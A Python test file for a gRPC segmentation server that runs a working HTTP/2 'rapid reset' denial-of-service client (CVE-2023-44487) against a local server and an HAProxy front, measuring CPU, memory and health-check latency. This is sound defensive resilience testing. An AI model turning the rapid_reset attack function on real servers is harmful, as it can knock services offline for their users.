"""HTTP/2 below the application (issue 28, item 7): a client that opens
streams and resets them at once (CVE-2023-44487, "rapid reset"), written with
python3-h2 so that it speaks HTTP/2 frames rather than gRPC calls.

One attacking connection (from 127.0.0.2: another client address), 20,000
streams (HEADERS then RST_STREAM, the gRPC Segment method's path) as fast as
h2 makes them, while a well-behaved client checks health and segments a small
CT: the normal client is served within a bound meanwhile, the server's CPU
time per reset stream is bounded and ends with the attack, and its memory
grows by a bounded amount per stream.

test_several_connections_exceed_grpc_151: four such connections at once.
Debian 12's gRPC 1.51 queues every stream it cannot match to the application
yet without a bound (the upstream fix, gRPC 1.56.3 / 1.57.1 / 1.58.1, bounds
those "pending requests"); measured on 2 shared cores: +337 MiB for 4 x 30,000
streams in 9 s, and with two attackers of 60,000 each +1.1 to +2 GiB in 15-25 s
with health checks timing out (10 s). No setting of 1.51 bounds it: a resource
quota, smaller TCP reads, one concurrent stream, the memory-pressure experiment
and fewer malloc arenas were each measured and none did (docs/deploy.md, with
the figures and why), so it is an expected failure that documents the exposure
(docs/deploy.md: what a front proxy adds); it runs only with
UPP_HTTP2_FULL_ATTACK=1 (it loads the machine for half a minute).
test_http2_rapid_reset_proxied.py runs the same attacker (rapid_reset,
run_attack) through the shipped HAProxy configuration (deploy/proxy).
"""
import contextlib
import os
import shutil
import signal
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
import unittest

import h2.config
import h2.connection
import h2.events
import h2.exceptions

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "clients"))
from server_process import ServerProcess, free_port  # noqa: E402

PHANTOM = os.environ["UPP_PHANTOM"]
SEGMENT_PATH = "/unetrpp.v1.Segmentation/Segment"
MIB = 1 << 20
ATTACK_LIMIT_SECONDS = 120  # run_attack gives up (an error) rather than wait longer


def rapid_reset(port: int, streams: int, path: str = SEGMENT_PATH, tls: bool = False) -> int:
    """Opens `streams` streams on one connection (a new one if the server
    closes it), each HEADERS immediately followed by RST_STREAM (CANCEL), in
    batches of 100 per write; answers the server's frames. `tls`: TLS with
    ALPN h2 (a proxy's listener; the certificate is not checked). Returns the
    number of connections it needed."""
    scheme = "https" if tls else "http"
    headers = [(":method", "POST"), (":scheme", scheme), (":path", path),
               (":authority", f"127.0.0.1:{port}"), ("content-type", "application/grpc"), ("te", "trailers")]
    context = None
    if tls:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
    sent, connections, refused = 0, 0, 0
    while sent < streams:
        connections += 1
        # From 127.0.0.2: another client address than the normal client's,
        # whose per-address limits the attacker would otherwise share.
        try:
            raw = socket.create_connection(("127.0.0.1", port), source_address=("127.0.0.2", 0), timeout=10)
            raw.settimeout(None)
            s = context.wrap_socket(raw) if context else raw
            refused = 0
        except OSError:  # refused (a proxy's per-address connection limit): try again, 10 s at most
            refused += 1
            if refused > 1000:
                return connections
            time.sleep(0.01)
            continue
        with s:
            conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
            conn.initiate_connection()
            try:
                s.sendall(conn.data_to_send())
            except OSError:
                continue
            alive = True
            while alive and sent < streams:
                try:
                    for _ in range(100):
                        sid = conn.get_next_available_stream_id()
                        conn.send_headers(sid, headers)
                        conn.reset_stream(sid, error_code=8)  # CANCEL
                        sent += 1
                    s.sendall(conn.data_to_send())
                    s.setblocking(False)
                    while True:  # what the server sent: settings, pings, GOAWAY
                        data = s.recv(1 << 16)
                        if not data:
                            alive = False
                            break
                        for event in conn.receive_data(data):
                            alive = alive and not isinstance(event, h2.events.ConnectionTerminated)
                except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                    pass
                except (h2.exceptions.ProtocolError, OSError):
                    alive = False
                s.setblocking(True)
                pending = conn.data_to_send()
                if alive and pending:
                    try:
                        s.sendall(pending)
                    except OSError:
                        alive = False
    return connections


class Process:
    """The server's CPU seconds and RSS from /proc."""

    def __init__(self, pid: int):
        self.pid = pid
        self.ticks = os.sysconf("SC_CLK_TCK")

    def cpu_seconds(self) -> float:
        with open(f"/proc/{self.pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / self.ticks  # utime + stime

    def rss_bytes(self) -> int:
        with open(f"/proc/{self.pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) * 1024
        raise RuntimeError("no VmRSS")


class ProxyProcess:
    """`with ProxyProcess(tmp, server_port) as proxy:` runs Debian's haproxy with
    the shipped deploy/proxy/haproxy.cfg in front of a server on loopback:
    TLS (a self-signed certificate for localhost made here) on proxy.port,
    plaintext HTTP/2 to the server."""
    CONFIG = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "deploy", "proxy", "haproxy.cfg")

    def __init__(self, tmp: str, server_port: int, env: dict = None):
        self.tmp, self.server_port, self.extra_env = tmp, server_port, env or {}
        self.cert = os.path.join(tmp, "proxy.crt")
        self.port, self.metrics_port = free_port(), free_port()
        self.address = f"127.0.0.1:{self.port}"

    def __enter__(self):
        if not os.path.exists(self.cert):  # the key beside it: proxy.key (ssl-load-extra-del-ext)
            subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=localhost",
                            "-addext", "subjectAltName=DNS:localhost", "-days", "2",
                            "-keyout", os.path.join(self.tmp, "proxy.key"), "-out", self.cert],
                           check=True, capture_output=True)
        env = dict(os.environ, UPP_PROXY_LISTEN=self.address, UPP_PROXY_CERT=self.cert,
                   UPP_SERVER_ADDRESS=f"127.0.0.1:{self.server_port}",
                   UPP_PROXY_METRICS=f"127.0.0.1:{self.metrics_port}", **self.extra_env)
        self.log = tempfile.TemporaryFile()
        self.process = subprocess.Popen([shutil.which("haproxy"), "-db", "-f", self.CONFIG], env=env,
                                        stdout=self.log, stderr=subprocess.STDOUT)
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            if self.process.poll() is not None:
                raise RuntimeError("haproxy exited: " + self.output())
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", self.port), timeout=1):
                return self
            time.sleep(0.1)
        raise RuntimeError("haproxy did not listen: " + self.output())

    def output(self) -> str:
        self.log.seek(0)
        return self.log.read().decode(errors="replace")

    def __exit__(self, *exc):
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            try:
                self.process.wait(timeout=20)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait()
        if os.environ.get("UPP_PROXY_LOG"):  # a copy of the proxy's log, for a look by hand
            self.log.seek(0)
            with open(f"{os.environ['UPP_PROXY_LOG']}.{self.port}", "wb") as f:
                shutil.copyfileobj(self.log, f)
        self.log.close()
        return False

    def metrics(self) -> dict:
        """The proxy's counters (its Prometheus exporter): requests the
        listener took, denied, and sent on to the server."""
        import urllib.request
        with urllib.request.urlopen(f"http://127.0.0.1:{self.metrics_port}/metrics", timeout=10) as r:
            text = r.read().decode()
        wanted = {'haproxy_frontend_http_requests_total{proxy="grpc"}': "requests",
                  'haproxy_frontend_requests_denied_total{proxy="grpc"}': "denied",
                  'haproxy_frontend_connections_total{proxy="grpc"}': "connections",
                  'haproxy_backend_http_requests_total{proxy="server"}': "forwarded",
                  'haproxy_backend_max_queue{proxy="server"}': "max_queue"}
        found = {}
        for line in text.splitlines():
            name, _, value = line.rpartition(" ")
            if name in wanted:
                found[wanted[name]] = int(float(value))
        return found


def run_attack(ct: str, connections: int, streams: int, proxy_tmp: str = None, proxy_env: dict = None):
    """Runs `connections` attackers of `streams` streams each against a fresh
    server (through the shipped HAProxy configuration when `proxy_tmp`, a
    folder for its certificate, is given; `proxy_env`: its settings) while a
    normal client checks health every 0.2 s and segments the small CT once,
    through the same endpoint. Returns the server's figures (and the proxy's
    CPU, RSS and counters)."""
    from unetrpp_client import Client, ServerError
    with contextlib.ExitStack() as stack:
        server = stack.enter_context(ServerProcess())
        target, port, client_kwargs, proxy = server.address, server.port, {}, None
        if proxy_tmp is not None:
            proxy = stack.enter_context(ProxyProcess(proxy_tmp, server.port, proxy_env))
            target, port = proxy.address, proxy.port
            client_kwargs = dict(tls_ca=proxy.cert, server_name="localhost")
        proc = Process(server.process.pid)
        proxy_proc = Process(proxy.process.pid) if proxy else None
        client = stack.enter_context(Client(target, **client_kwargs))
        client.segment(ct, deadline=60)  # warm: the first request's allocations are not the attack's
        time.sleep(1)
        cpu0, rss0 = proc.cpu_seconds(), proc.rss_bytes()
        proxy_cpu0, proxy_rss0 = (proxy_proc.cpu_seconds(), proxy_proc.rss_bytes()) if proxy else (0, 0)
        attackers = [threading.Thread(target=rapid_reset, args=(port, streams), kwargs=dict(tls=proxy is not None),
                                      daemon=True) for _ in range(connections)]
        start = time.monotonic()
        for a in attackers:
            a.start()
        health, health_errors, segment = [], [], None
        while any(a.is_alive() for a in attackers) and time.monotonic() - start < ATTACK_LIMIT_SECONDS:
            t = time.monotonic()
            try:
                ok = client.healthy()
            except ServerError as e:
                ok = False
                health_errors.append(str(e))
            health.append((time.monotonic() - t, ok))
            if segment is None and time.monotonic() - start > 0.5:
                t = time.monotonic()
                result = client.segment(ct, deadline=120)
                segment = (time.monotonic() - t, len(result.outputs["nifti"]))
            time.sleep(0.2)
        for a in attackers:
            a.join(timeout=1)
        if any(a.is_alive() for a in attackers):
            raise RuntimeError(f"the attack did not end within {ATTACK_LIMIT_SECONDS} s")
        attack_seconds = time.monotonic() - start
        cpu1, rss1 = proc.cpu_seconds(), proc.rss_bytes()
        proxy_cpu = proxy_proc.cpu_seconds() - proxy_cpu0 if proxy else None
        proxy_rss = proxy_proc.rss_bytes() - proxy_rss0 if proxy else None
        proxy_counts = proxy.metrics() if proxy else None
        # The server catches up: CPU idle again within a few seconds.
        idle_after = None
        for second in range(1, 11):
            before = proc.cpu_seconds()
            time.sleep(1)
            if proc.cpu_seconds() - before < 0.25:
                idle_after = second
                break
        after = client.healthy()
        rss_retained = proc.rss_bytes() - rss0
    return dict(attack_seconds=attack_seconds, cpu=cpu1 - cpu0, rss_growth=rss1 - rss0,
                rss_retained=rss_retained, health=health, segment=segment, idle_after=idle_after,
                healthy_after=after, health_errors=health_errors, proxy_cpu=proxy_cpu, proxy_rss_growth=proxy_rss,
                proxy_counts=proxy_counts)


class RapidResetTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.mkdtemp(prefix="upp-rapid-reset-")
        cls.ct = os.path.join(cls.tmp, "ct.nii.gz")
        subprocess.run([PHANTOM, "--seed", "7", "--max-inplane", "64", "--max-slices", "32", "-o", cls.ct],
                       check=True, capture_output=True)
        cls.streams = 20000
        cls.one = cls.attack(1, cls.streams)
        cls.summary = (
            f"{cls.streams} reset streams in {cls.one['attack_seconds']:.1f} s: server CPU {cls.one['cpu']:.2f} s, "
            f"RSS +{cls.one['rss_growth'] / MIB:.0f} MiB at the end of the attack, "
            f"+{cls.one['rss_retained'] / MIB:.0f} MiB once idle (the allocator's high-water mark), health max "
            f"{max(h[0] for h in cls.one['health']):.2f} s ({len(cls.one['health'])} checks), segment "
            f"{cls.one['segment'][0] if cls.one['segment'] else None} s, idle {cls.one['idle_after']} s after")
        print(cls.summary)

    @classmethod
    def attack(cls, connections: int, streams: int):
        return run_attack(cls.ct, connections, streams)

    def test_a_normal_client_is_served_meanwhile(self):
        r = self.one
        self.assertTrue(r["health"] and all(ok for _, ok in r["health"]), self.summary)
        self.assertLess(max(h[0] for h in r["health"]), 5.0, self.summary)
        self.assertIsNotNone(r["segment"], "no segmentation ran during the attack: " + self.summary)
        self.assertLess(r["segment"][0], 60.0, self.summary)
        self.assertGreater(r["segment"][1], 0)
        self.assertTrue(r["healthy_after"])

    def test_cpu_per_stream_is_bounded_and_ends_with_the_attack(self):
        self.assertLess(self.one["cpu"] / self.streams, 500e-6, self.summary)  # measured 80-95 us on 2 cores
        self.assertIsNotNone(self.one["idle_after"], "still busy 10 s after the attack: " + self.summary)

    def test_memory_is_bounded_per_stream(self):
        # While the attack runs gRPC 1.51 holds the streams it has not matched
        # to the application yet, 5-14 KiB each (measured: +78 to +285 MiB for
        # these 20,000); the queue itself is unbounded (the module's
        # docstring). 32 KiB a stream holds even if none were served during
        # the attack, and fails for anything the server would keep per stream.
        self.assertLess(self.one["rss_growth"], self.streams * 32 * 1024, self.summary)

    @unittest.skipUnless(os.environ.get("UPP_HTTP2_FULL_ATTACK") == "1",
                         "set UPP_HTTP2_FULL_ATTACK=1 to show gRPC 1.51's unbounded queue (CVE-2023-44487)")
    @unittest.expectedFailure
    def test_several_connections_exceed_grpc_151(self):
        r = self.attack(4, 30000)
        print(f"4 x 30000 reset streams in {r['attack_seconds']:.1f} s: RSS +{r['rss_growth'] / MIB:.0f} MiB, "
              f"health max {max(h[0] for h in r['health']):.2f} s")
        self.assertLess(r["rss_growth"], 256 * MIB)
        self.assertLess(max(h[0] for h in r["health"]), 5.0)


if __name__ == "__main__":
    unittest.main()
